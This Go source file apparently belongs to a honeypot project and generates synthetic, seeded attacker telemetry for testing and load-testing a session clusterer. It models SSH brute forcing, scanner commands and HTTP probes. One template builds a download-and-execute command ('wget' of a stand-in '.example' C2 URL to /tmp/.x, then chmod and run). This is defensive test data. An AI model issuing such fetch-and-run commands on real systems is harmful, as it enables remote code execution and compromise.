package scenario

import (
	"crypto/md5" //nolint:gosec // G501: HASSH is an MD5 by definition, see toolkit
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"hash/fnv"
	"math"
	"math/rand/v2"
	"slices"
	"strings"
	"time"

	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/decnet/decnet/controlplane/identity"
	eventv1 "github.com/decnet/decnet/gen/decnet/event/v1"
)

// Epoch is the time of day zero in every generated dataset.
var Epoch = time.Date(2026, 1, 5, 0, 0, 0, 0, time.UTC)

// asnPool is the number of networks addresses are drawn from. Actors and
// scanners share it, so the same ASN alone is common and weak.
const asnPool = 60

// Dataset is the output of one generator run.
type Dataset struct {
	// Inputs are the events in time order, as the clusterer reads them.
	Inputs []identity.Input
	// ASN maps each source address to its network, the enrichment a
	// control plane has.
	ASN map[string]uint32
	// Truth maps each observation key (session id) to its truth label.
	// It is for scoring only and must never reach the clusterer.
	Truth map[string]string
}

// LookupASN is the dataset's address-to-ASN enrichment.
func (d *Dataset) LookupASN(addr string) uint32 { return d.ASN[addr] }

// Generate produces the events of s from seed. The same scenario and seed
// always give the same events.
func Generate(s *Scenario, seed uint64) *Dataset {
	g := newGen(seed)
	actorSessions := 0
	for i := range s.Actors {
		actorSessions += g.actor(&s.Actors[i], i)
	}
	g.noise(s.Noise * actorSessions)
	return g.finish()
}

// Scale generates a load-test corpus: the actors of every built-in
// scenario plus scanners, one session and one address each, sized so the
// whole holds about events events from about attackers addresses.
func Scale(attackers, events int, seed uint64) *Dataset {
	g := newGen(seed)
	for _, s := range Builtin() {
		for i := range s.Actors {
			a := s.Actors[i]
			a.Label = s.Name + "/" + a.Label
			g.actor(&a, i)
		}
	}
	actorEvents := len(g.ds.Inputs)
	scanners := max(1, attackers-len(g.ds.ASN))
	g.noiseSessions = 1
	g.eventTarget = max(events, actorEvents)
	g.noise(scanners)
	return g.finish()
}

func newGen(seed uint64) *gen {
	return &gen{
		seed:  seed,
		rng:   rand.New(rand.NewPCG(seed, 0x5eed)), //nolint:gosec // G404: a scenario must replay from its seed
		ds:    &Dataset{ASN: map[string]uint32{}, Truth: map[string]string{}},
		exits: map[string]string{},
		addrs: map[string]bool{},
		words: map[string][]cred{},
	}
}

// finish puts the events in time order.
func (g *gen) finish() *Dataset {
	slices.SortStableFunc(g.ds.Inputs, func(a, b identity.Input) int {
		return a.Event.GetTime().AsTime().Compare(b.Event.GetTime().AsTime())
	})
	return g.ds
}

type gen struct {
	// noiseSessions fixes the sessions per scanner when set. eventTarget
	// steers the attempts per scanner session towards a total event count.
	// Zero draws both at random.
	noiseSessions int
	eventTarget   int
	seed          uint64
	rng           *rand.Rand
	ds            *Dataset
	exits         map[string]string
	addrs         map[string]bool
	words         map[string][]cred
}

// named returns a random stream fixed by the seed, a kind and a name, so
// that equal names in a scenario give equal values.
func (g *gen) named(kind, name string) *rand.Rand {
	h := fnv.New64a()
	h.Write([]byte(kind + "\x00" + name))
	return rand.New(rand.NewPCG(g.seed, h.Sum64())) //nolint:gosec // G404: a scenario must replay from its seed
}

// session is one planned attacker connection.
type session struct {
	label   string
	addr    string
	start   time.Time
	tool    toolkit
	creds   []cred
	login   *cred
	cmds    []string
	c2      *c2
	typist  *typist
	http    int
	service string
}

func (g *gen) actor(a *Actor, index int) int {
	addrs := g.actorAddrs(a, index)
	times := g.sessionTimes(a)
	var words []cred
	if a.Wordlist != "" {
		words = g.wordlist(a.Wordlist)
	}
	var login *cred
	if a.Login != "" {
		c := loginCred(g.named("login", a.Login))
		login = &c
	}
	var script []string
	if a.Script != "" {
		script = makeScript(g.named("script", a.Script), a.Cmds)
	}
	var ctl *c2
	if a.C2 != "" {
		c := makeC2(g.named("c2", a.C2))
		ctl = &c
		script = append(script, "wget "+c.url+" -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x")
	}
	var ty *typist
	if a.Typist != "" {
		t := makeTypist(g.named("typist", a.Typist))
		ty = &t
	}

	for k := range a.Sessions {
		s := session{
			label:   a.Label,
			addr:    addrs[k%len(addrs)],
			start:   times[k],
			tool:    g.toolkit(a.Tools[k*len(a.Tools)/a.Sessions]),
			login:   login,
			c2:      ctl,
			typist:  ty,
			http:    a.HTTP,
			service: "ssh",
		}
		if len(words) > 0 && a.Tries > 0 {
			// A brute forcer works through its list: each session
			// resumes halfway through the previous one's window.
			off := (k * a.Tries / 2) % len(words)
			for i := range a.Tries {
				s.creds = append(s.creds, words[(off+i)%len(words)])
			}
		}
		s.cmds = g.vary(script)
		g.emit(&s)
	}
	return a.Sessions
}

func (g *gen) actorAddrs(a *Actor, index int) []string {
	if a.Exit != "" {
		addr, ok := g.exits[a.Exit]
		if !ok {
			asn := g.asnOf("exit:" + a.Exit)
			addr = g.newAddr(asn)
			g.exits[a.Exit] = addr
		}
		return []string{addr}
	}
	out := make([]string, a.Addrs)
	for i := range out {
		var asn uint32
		switch a.ASN {
		case "mixed":
			asn = 64512 + uint32(g.rng.IntN(asnPool))
		case "":
			asn = g.asnOf(fmt.Sprintf("actor:%d:%s", index, a.Label))
		default:
			asn = g.asnOf(a.ASN)
		}
		out[i] = g.newAddr(asn)
	}
	return out
}

func (g *gen) asnOf(name string) uint32 {
	return 64512 + uint32(g.named("asn", name).IntN(asnPool))
}

// newAddr returns a fresh address in the IPv6 documentation prefix
// (RFC 3849), so synthetic data never names a real host.
func (g *gen) newAddr(asn uint32) string {
	for {
		a := fmt.Sprintf("2001:db8:%x:%x::%x", asn, g.rng.IntN(0xffff), 1+g.rng.IntN(0xfffe))
		if !g.addrs[a] {
			g.addrs[a] = true
			g.ds.ASN[a] = asn
			return a
		}
	}
}

// sessionTimes spreads the sessions evenly over the actor's days, with
// jitter, and shifts the second half by the pause.
func (g *gen) sessionTimes(a *Actor) []time.Time {
	out := make([]time.Time, a.Sessions)
	for k := range out {
		frac := 0.5
		if a.Sessions > 1 {
			frac = float64(k) / float64(a.Sessions-1)
		}
		day := a.Start + frac*a.Days + g.rng.Float64()*0.2
		if k >= a.Sessions/2 && a.Sessions > 1 {
			day += a.Pause
		}
		out[k] = Epoch.Add(time.Duration(day * 24 * float64(time.Hour)))
	}
	return out
}

// vary perturbs a script per session: operators skip steps and add the
// odd extra command.
func (g *gen) vary(script []string) []string {
	var out []string
	for _, c := range script {
		if strings.HasPrefix(c, "wget ") {
			// Fetching the payload is the point of the session.
			out = append(out, c)
			continue
		}
		if g.rng.Float64() < 0.1 {
			out = append(out, vocabulary[g.rng.IntN(len(vocabulary))].render(g.rng))
		}
		if g.rng.Float64() < 0.88 {
			out = append(out, c)
		}
	}
	return out
}

// noise adds n scanner sessions from independent scanners, each with
// one to three sessions from one address and commodity tools only.
func (g *gen) noise(n int) {
	for id := 0; n > 0; id++ {
		label := fmt.Sprintf("noise-%d", id)
		addr := g.newAddr(64512 + uint32(g.rng.IntN(asnPool)))
		tool := g.toolkit(commodityTools[g.rng.IntN(len(commodityTools))])
		words := g.wordlist(commodityWordlists[g.rng.IntN(len(commodityWordlists))])
		var script []string
		if g.rng.Float64() < 0.5 {
			// What a bot runs once in: one or two stock one-liners.
			for range 1 + g.rng.IntN(2) {
				script = append(script, commodityCommands[g.rng.IntN(len(commodityCommands))])
			}
		}
		web := g.rng.Float64() < 0.25
		if web {
			tool = g.toolkit(commodityWebTools[g.rng.IntN(len(commodityWebTools))])
		}
		k := min(n, 1+g.rng.IntN(3))
		if g.noiseSessions > 0 {
			k = min(n, g.noiseSessions)
		}
		day := g.rng.Float64() * 90
		for range k {
			s := session{label: label, addr: addr, tool: tool, service: "ssh",
				start: Epoch.Add(time.Duration((day + g.rng.Float64()*2) * 24 * float64(time.Hour)))}
			if web {
				s.service = "http"
				s.http = 1 + g.rng.IntN(5)
			} else {
				off := g.rng.IntN(100)
				tries := 2 + g.rng.IntN(24)
				if g.eventTarget > 0 {
					// What the remaining scanners still owe the target,
					// less this session's other events.
					tries = max(1, (g.eventTarget-len(g.ds.Inputs))/max(1, n)-4)
				}
				for i := range tries {
					s.creds = append(s.creds, words[(off+i)%len(words)])
				}
				if len(script) > 0 {
					// Decoys accept common passwords, so a bot that
					// runs commands guessed one: the last it tried.
					c := words[(off+len(s.creds))%len(words)]
					s.login = &c
					s.cmds = g.vary(script)
				}
			}
			g.emit(&s)
		}
		n -= k
	}
}

// emit turns a session into events.
func (g *gen) emit(s *session) {
	sid := g.uuid()
	g.ds.Truth[sid] = s.label
	decky := deckies[g.rng.IntN(len(deckies))]
	port := uint32(1024 + g.rng.IntN(60000))
	t := s.start
	base := func(kind string) *eventv1.Event {
		return &eventv1.Event{
			Id: g.uuid(), Time: timestamppb.New(t), AgentId: "00000000-0000-7000-8000-000000000001",
			Decky: decky, Service: s.service, Kind: kind,
			Source:      &eventv1.Endpoint{Address: s.addr, Port: port},
			Destination: &eventv1.Endpoint{Address: "2001:db8:ffff::10", Port: servicePort(s.service)},
			SessionId:   sid,
		}
	}
	add := func(ev *eventv1.Event, p identity.ProposedFields) {
		g.ds.Inputs = append(g.ds.Inputs, identity.Input{Event: ev, Proposed: p})
	}
	step := func(seconds float64) { t = t.Add(time.Duration(seconds * float64(time.Second))) }

	open := base("connection.opened")
	open.Payload = &eventv1.Event_ConnectionOpened{ConnectionOpened: &eventv1.ConnectionOpened{Transport: "tcp"}}
	var fp identity.ProposedFields
	if s.service == "ssh" {
		fp = identity.ProposedFields{SSHClientVersion: s.tool.sshVersion, HASSH: s.tool.hassh}
	} else {
		fp = identity.ProposedFields{JA4: s.tool.ja4}
	}
	add(open, fp)

	for range s.http {
		step(0.2 + g.rng.Float64())
		ev := base("http.request")
		ev.Service = "http"
		hdrs := make([]*eventv1.Header, 0, len(s.tool.headers))
		for _, h := range s.tool.headers {
			v := "*/*"
			if h == "User-Agent" {
				v = s.tool.ua
			}
			hdrs = append(hdrs, &eventv1.Header{Name: h, Value: v})
		}
		ev.Payload = &eventv1.Event_HttpRequest{HttpRequest: &eventv1.HTTPRequest{
			Method: "GET", Target: httpTargets[g.rng.IntN(len(httpTargets))], Protocol: "HTTP/1.1",
			Host: decky, UserAgent: s.tool.ua, Headers: hdrs, Status: 404,
		}}
		add(ev, identity.ProposedFields{})
	}

	for _, c := range s.creds {
		step(0.3 + g.rng.Float64())
		add(authEvent(base("auth.attempt"), c, eventv1.AuthOutcome_AUTH_OUTCOME_REJECTED), identity.ProposedFields{})
	}
	if s.login != nil {
		step(0.3 + g.rng.Float64())
		add(authEvent(base("auth.attempt"), *s.login, eventv1.AuthOutcome_AUTH_OUTCOME_ACCEPTED), identity.ProposedFields{})
	}

	if len(s.cmds) > 0 {
		var rec *castWriter
		if s.typist != nil {
			rec = newCast(t)
		}
		sessionTypist := s.typist
		if sessionTypist != nil {
			// A person's speed drifts a little from day to day.
			st := *sessionTypist
			st.muMS *= math.Exp(g.rng.NormFloat64() * 0.04)
			sessionTypist = &st
		}
		channel := "exec"
		if rec != nil {
			channel = "shell"
		}
		for _, line := range s.cmds {
			if rec != nil {
				t = rec.typeLine(g.rng, sessionTypist, t, line)
			} else {
				step(0.05 + g.rng.Float64()*0.2)
			}
			ev := base("command")
			ev.Payload = &eventv1.Event_Command{Command: &eventv1.Command{Line: line, Channel: channel}}
			add(ev, identity.ProposedFields{})
			if s.c2 != nil && len(line) > 5 && line[:5] == "wget " {
				step(0.5)
				d := base("download.requested")
				d.Payload = &eventv1.Event_DownloadRequested{DownloadRequested: &eventv1.DownloadRequested{
					Url: s.c2.url, Tool: "wget", Outcome: "fetched", Sha256: s.c2.payload[:], Size: 1 << 20,
				}}
				add(d, identity.ProposedFields{})
				f := base("file.captured")
				f.Payload = &eventv1.Event_FileCaptured{FileCaptured: &eventv1.FileCaptured{
					Sha256: s.c2.payload[:], Size: 1 << 20, Name: "/tmp/.x", Channel: "download", Url: s.c2.url, Stored: true,
				}}
				add(f, identity.ProposedFields{})
			}
			if rec != nil {
				t = rec.output(g.rng, t)
			}
		}
		if rec != nil {
			step(0.5)
			ev := base("session.recorded")
			cast := rec.bytes()
			ev.Payload = &eventv1.Event_SessionRecorded{SessionRecorded: &eventv1.SessionRecorded{
				Cast: cast, DurationMs: uint64(t.Sub(rec.start).Milliseconds()), Width: 80, Height: 24,
				InputBytes: rec.in, OutputBytes: rec.out,
			}}
			add(ev, identity.ProposedFields{})
		}
	}

	step(0.2)
	closed := base("connection.closed")
	closed.Payload = &eventv1.Event_ConnectionClosed{ConnectionClosed: &eventv1.ConnectionClosed{
		DurationMs: uint64(t.Sub(s.start).Milliseconds()), Reason: "client_closed",
	}}
	add(closed, identity.ProposedFields{})
}

func authEvent(ev *eventv1.Event, c cred, outcome eventv1.AuthOutcome) *eventv1.Event {
	sum := sha256.Sum256([]byte(c.password))
	ev.Payload = &eventv1.Event_AuthAttempt{AuthAttempt: &eventv1.AuthAttempt{
		Principal: c.principal, SecretKind: "plaintext", Mechanism: "ssh_password",
		Secret: []byte(c.password), SecretSha256: sum[:], Outcome: outcome,
	}}
	return ev
}

func servicePort(service string) uint32 {
	if service == "http" {
		return 80
	}
	return 22
}

// uuid returns a version 7 shaped UUID from the generator's stream.
func (g *gen) uuid() string {
	var b [16]byte
	binary.BigEndian.PutUint64(b[:8], g.rng.Uint64())
	binary.BigEndian.PutUint64(b[8:], g.rng.Uint64())
	b[6] = b[6]&0x0f | 0x70
	b[8] = b[8]&0x3f | 0x80
	h := hex.EncodeToString(b[:])
	return h[:8] + "-" + h[8:12] + "-" + h[12:16] + "-" + h[16:20] + "-" + h[20:]
}

// toolkit is the client fingerprint set of one tool.
type toolkit struct {
	sshVersion, hassh, ja4, ua string
	headers                    []string
}

func (g *gen) toolkit(name string) toolkit {
	// Fingerprints depend on the tool's name only, because a stock client
	// looks the same in anyone's hands.
	r := rand.New(rand.NewPCG(0, fnvOf("tool\x00"+name))) //nolint:gosec // G404: fixed per tool name on purpose
	version, ok := knownSSHVersions[name]
	if !ok {
		version = fmt.Sprintf("SSH-2.0-%s_%d.%d", name, 1+r.IntN(9), r.IntN(20))
	}
	ua, ok := knownUserAgents[name]
	if !ok {
		ua = fmt.Sprintf("Mozilla/5.0 (X11; Linux x86_64) %s/%d.%d", name, 1+r.IntN(9), r.IntN(50))
	}
	hdrs := []string{"Host", "User-Agent", "Accept", "Accept-Encoding", "Connection"}
	r.Shuffle(len(hdrs)-1, func(i, j int) { hdrs[i+1], hdrs[j+1] = hdrs[j+1], hdrs[i+1] })
	// Synthetic fingerprints: MD5 gives HASSH its real shape, and
	// nothing here protects anything.
	hassh := md5.Sum([]byte("kexinit\x00" + name))   //nolint:gosec // G401: see above
	ja4 := md5.Sum([]byte("clienthello\x00" + name)) //nolint:gosec // G401: see above
	return toolkit{
		sshVersion: version,
		hassh:      hex.EncodeToString(hassh[:]),
		ja4:        "t13d1516h2_" + hex.EncodeToString(ja4[:6]) + "_" + hex.EncodeToString(ja4[6:12]),
		ua:         ua,
		headers:    hdrs,
	}
}

func fnvOf(s string) uint64 {
	h := fnv.New64a()
	h.Write([]byte(s))
	return h.Sum64()
}

type cred struct{ principal, password string }

var principals = []string{"root", "admin", "ubuntu", "user", "test", "oracle", "pi", "git", "postgres", "support", "ftpuser", "deploy"}

// wordlist returns the named list, generated once per dataset.
func (g *gen) wordlist(name string) []cred {
	if w, ok := g.words[name]; ok {
		return w
	}
	w := wordlist(g.named("wordlist", name), 400)
	g.words[name] = w
	return w
}

func wordlist(r *rand.Rand, n int) []cred {
	out := make([]cred, n)
	for i := range out {
		out[i] = cred{principals[r.IntN(len(principals))], randomWord(r, 5+r.IntN(8))}
	}
	return out
}

func loginCred(r *rand.Rand) cred {
	return cred{principals[r.IntN(4)], randomWord(r, 14)}
}

func randomWord(r *rand.Rand, n int) string {
	const alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, n)
	for i := range b {
		b[i] = alphabet[r.IntN(len(alphabet))]
	}
	return string(b)
}

type c2 struct {
	url     string
	payload [32]byte
}

func makeC2(r *rand.Rand) c2 {
	host := fmt.Sprintf("%s.example:%d", randomWord(r, 10), []int{80, 8080, 443, 8443}[r.IntN(4)])
	var c c2
	c.url = "http://" + host + "/" + randomWord(r, 6)
	binary.BigEndian.PutUint64(c.payload[:], r.Uint64())
	binary.BigEndian.PutUint64(c.payload[8:], r.Uint64())
	binary.BigEndian.PutUint64(c.payload[16:], r.Uint64())
	return c
}

func makeScript(r *rand.Rand, n int) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = vocabulary[r.IntN(len(vocabulary))].render(r)
	}
	return out
}

var (
	deckies            = []string{"web01", "db02", "files03", "mail04", "edge05"}
	httpTargets        = []string{"/", "/.env", "/wp-login.php", "/admin", "/cgi-bin/luci", "/actuator/health"}
	commodityTools     = []string{"openssh-9.2", "openssh-8.9", "libssh-0.9", "paramiko", "go-ssh", "putty", "asyncssh"}
	commodityWebTools  = []string{"zgrab", "python-requests", "curl", "go-http"}
	commodityWordlists = []string{"mirai-defaults", "top-passwords", "rockyou-head"}
	commodityCommands  = []string{"uname -a", "cat /proc/cpuinfo", "nproc", "uname -s -v -n -r -m", "echo ok", "cat /etc/issue"}
	knownSSHVersions   = map[string]string{
		"openssh-9.2": "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3",
		"openssh-8.9": "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10",
		"libssh-0.9":  "SSH-2.0-libssh_0.9.6",
		"paramiko":    "SSH-2.0-paramiko_3.4.0",
		"go-ssh":      "SSH-2.0-Go",
		"putty":       "SSH-2.0-PuTTY_Release_0.81",
		"asyncssh":    "SSH-2.0-AsyncSSH_2.14.2",
	}
	knownUserAgents = map[string]string{
		"zgrab":           "Mozilla/5.0 zgrab/0.x",
		"python-requests": "python-requests/2.31.0",
		"curl":            "curl/8.5.0",
		"go-http":         "Go-http-client/1.1",
	}
)
